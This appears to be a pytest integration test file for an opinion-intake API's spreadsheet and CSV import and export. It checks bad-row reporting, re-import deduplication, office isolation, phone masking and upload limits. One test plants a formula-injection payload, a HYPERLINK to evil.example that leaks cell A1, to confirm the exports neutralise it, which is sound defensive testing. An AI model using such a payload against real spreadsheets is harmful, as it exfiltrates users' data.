"""Batch import and export through the intake API on the real stack: a 500-row sheet with
20 bad rows, the same sheet again, CSV, exports that stay inside the office and cannot run
formulas, and uploads that are no spreadsheet or far too large."""

import csv
import io
import random
import uuid
from collections.abc import AsyncIterator
from typing import Any

import httpx
import pytest
from openpyxl import Workbook, load_workbook

from shared import auth
from shared.settings import Settings
from shared.store import mongo_client
from tools.demo import wait_for

from .conftest import Keys, System

HEADER = ["标题", "内容", "来源渠道", "提交人类型", "提交人", "联系电话", "所在区", "所在街道"]
# Common characters: random texts of them share almost no 3-grams, so no row is a 附议.
CHARS = (
    "的一是在不了有和人这中大为上个国我以要他时来用们生到作地于出就分对成会可主发年动同工也能下"
    "过子说产种面而方后多定行学法所民得经十三之进着等部度家电力里如水化高自二理起小物现实加量都"
    "两体制机当使点从业本去把性好应开它合还因由其些然前外天政四日那社义事平形相全表间样与关各重"
)
# Row number in the sheet → (column with the problem, the bad value).
BAD_KINDS: list[tuple[str, Any]] = [
    ("标题", None),
    ("来源渠道", "微信群"),
    ("联系电话", "打电话找我"),
    ("内容", "长" * 4001),
    ("标题", "题" * 101),
]
BAD_ROWS = {2 + i * 25 + 7: BAD_KINDS[i % len(BAD_KINDS)] for i in range(20)}


def text(rng: random.Random, size: int) -> str:
    return "".join(rng.choice(CHARS) for _ in range(size))


def sheet_rows(count: int, seed: int) -> list[list[Any]]:
    rng = random.Random(seed)
    rows = []
    for number in range(2, count + 2):
        row = {
            "标题": text(rng, 12),
            "内容": text(rng, 80),
            "来源渠道": rng.choice(["接待日", "走访", "座谈", "热线"]),
            "提交人类型": rng.choice(["委员", "代表", "群众"]),
            "提交人": text(rng, 3),
            "联系电话": 13800000000 + number,  # typed as a number, as Excel does
            "所在区": "导入区",
            "所在街道": f"街道{number % 7}",
        }
        if number in BAD_ROWS:
            column, value = BAD_ROWS[number]
            row[column] = value
        rows.append([row[c] for c in HEADER])
    return rows


def xlsx(rows: list[list[Any]]) -> bytes:
    book = Workbook()
    book.active.append(HEADER)
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@pytest.fixture
async def office(settings: Settings) -> AsyncIterator[str]:
    """A fresh office of its own, so counts of its opinions are exact."""
    client = mongo_client(settings)
    code = f"import-{uuid.uuid4().hex[:6]}"
    try:
        yield await auth.create_key(
            client[settings.database(auth.AUTH_DB)], auth.Role.OFFICE, code, "导入测试办公室"
        )
    finally:
        await client.close()


async def run_import(
    http: httpx.AsyncClient, system: System, key: str, filename: str, data: bytes
) -> dict[str, Any]:
    started = await http.post(
        f"{system.url('intake')}/imports",
        params={"filename": filename},
        headers=Keys.header(key),
        content=data,
    )
    assert started.status_code == 202, started.text

    async def done() -> dict[str, Any] | None:
        r = await http.get(
            f"{system.url('intake')}/imports/{started.json()['id']}", headers=Keys.header(key)
        )
        job: dict[str, Any] = r.json()
        return job if job["status"] == "done" else None

    return await wait_for(done, f"import of {filename}", within=600)


async def export(
    http: httpx.AsyncClient, system: System, key: str, format: str = "xlsx"
) -> list[list[Any]]:
    r = await http.get(
        f"{system.url('intake')}/opinions/export",
        params={"format": format},
        headers=Keys.header(key),
    )
    assert r.status_code == 200, r.text
    if format == "csv":
        return list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    book = load_workbook(io.BytesIO(r.content))
    return [list(row) for row in book.active.iter_rows(values_only=True)]


async def test_500_rows_with_20_bad_then_the_same_file_again(
    system: System, office: str, editor_key: str
) -> None:
    data = xlsx(sheet_rows(500, seed=1))
    async with httpx.AsyncClient(timeout=60) as http:
        first = await run_import(http, system, office, "座谈会.xlsx", data)
        again = await run_import(http, system, office, "座谈会.xlsx", data)
        exported = await export(http, system, office)
        by_editor = await export(http, system, editor_key)

    assert (first["rows"], first["valid"], first["failed"]) == (500, 480, 20)
    assert first["created"] + first["supported"] == 480 and first["supported"] == 0
    assert len(first["accepted"]) == 480
    reported = {(p["row"], p["field"]) for p in first["problems"]}
    assert reported == {(row, column) for row, (column, _) in BAD_ROWS.items()}
    assert all(p["problem"] for p in first["problems"])

    assert (again["created"], again["supported"], again["already_imported"]) == (0, 0, 480)
    assert again["accepted"] == first["accepted"]  # the same tracking numbers
    assert len(exported) == 1 + 480  # header + one row per opinion: nothing twice

    header = exported[0]
    phones = {row[header.index("联系电话")] for row in exported[1:]}
    assert "13800000002" in phones
    numbers = {row[header.index("受理编号")] for row in exported[1:]}
    assert numbers == set(first["accepted"].values())
    editor_rows = [r for r in by_editor[1:] if r[header.index("受理编号")] in numbers]
    assert len(editor_rows) == 480
    assert all("****" in r[header.index("联系电话")] for r in editor_rows)


async def test_csv_import_and_exports_stay_in_the_office_and_cannot_run_formulas(
    system: System, office: str, keys: Keys
) -> None:
    body = io.StringIO()
    writer = csv.writer(body)
    writer.writerow(HEADER)
    writer.writerows(sheet_rows(3, seed=2))
    injected: dict[str, Any] = {
        "title": '=HYPERLINK("http://evil.example/?leak="&A1,"点我查看")',
        "content": "+SUM(1,2) 这一行的内容以加号开头，导出时必须保持为纯文本。",
        "channel": "网络",
        "submitter": {"kind": "群众", "name": "@某人"},
        "location": {"district": "导入区", "street": "公式街道"},
    }
    async with httpx.AsyncClient(timeout=60) as http:
        job = await run_import(http, system, office, "来信.csv", body.getvalue().encode("gb18030"))
        r = await http.post(
            f"{system.url('intake')}/opinions", headers=Keys.header(office), json=injected
        )
        assert r.status_code == 201, r.text
        as_xlsx = await export(http, system, office)
        as_csv = await export(http, system, office, "csv")
        other = await export(http, system, keys.other_office)
    assert (job["created"], job["failed"]) == (3, 0)
    header = as_xlsx[0]
    title, content = header.index("标题"), header.index("内容")
    [row] = [r for r in as_xlsx[1:] if r[header.index("所在街道")] == "公式街道"]
    assert row[title] == "'" + injected["title"]
    assert row[content] == "'" + injected["content"]
    assert row[header.index("提交人")] == "'@某人"
    [csv_row] = [r for r in as_csv[1:] if r[header.index("所在街道")] == "公式街道"]
    assert csv_row[title].startswith("'=HYPERLINK")
    assert len(as_xlsx) == len(as_csv) == 1 + 4
    assert not {r[0] for r in other[1:]} & {r[0] for r in as_xlsx[1:]}


async def test_uploads_that_are_no_spreadsheet_or_too_large_store_nothing(
    system: System, office: str
) -> None:
    url = f"{system.url('intake')}/imports"
    headers = Keys.header(office)

    async def upload(filename: str, content: Any) -> httpx.Response:
        return await http.post(url, params={"filename": filename}, headers=headers, content=content)

    async def chunks() -> AsyncIterator[bytes]:
        for _ in range(50):
            yield b"0" * 1_000_000

    async with httpx.AsyncClient(timeout=120) as http:
        not_xlsx = await upload("意见.xlsx", b"%PDF-1.7 this is a PDF, not a workbook")
        zip_not_xlsx = await upload("意见.xlsx", b"PK\x03\x04" + b"\x00" * 100)
        not_table = await upload("意见.docx", b"PK\x03\x04")
        no_columns = await upload("意见.csv", "名字,年龄\n张三,30\n".encode())
        empty = await upload("意见.csv", b"")
        # 50 MB with a Content-Length, and 50 MB streamed without one.
        declared = await upload("大文件.xlsx", b"0" * 50_000_000)
        streamed = await upload("大文件.xlsx", chunks())
        exported = await export(http, system, office)
    for response, status in (
        (not_xlsx, 422),
        (zip_not_xlsx, 422),
        (not_table, 415),
        (no_columns, 422),
        (empty, 422),
        (declared, 413),
        (streamed, 413),
    ):
        assert response.status_code == status, response.text
        assert response.headers["content-type"] == "application/problem+json"
    assert "不是有效的 Excel 表格" in not_xlsx.json()["detail"]
    assert {e["field"] for e in no_columns.json()["errors"]} >= {"标题", "内容"}
    assert exported == [exported[0]]  # header only: nothing stored
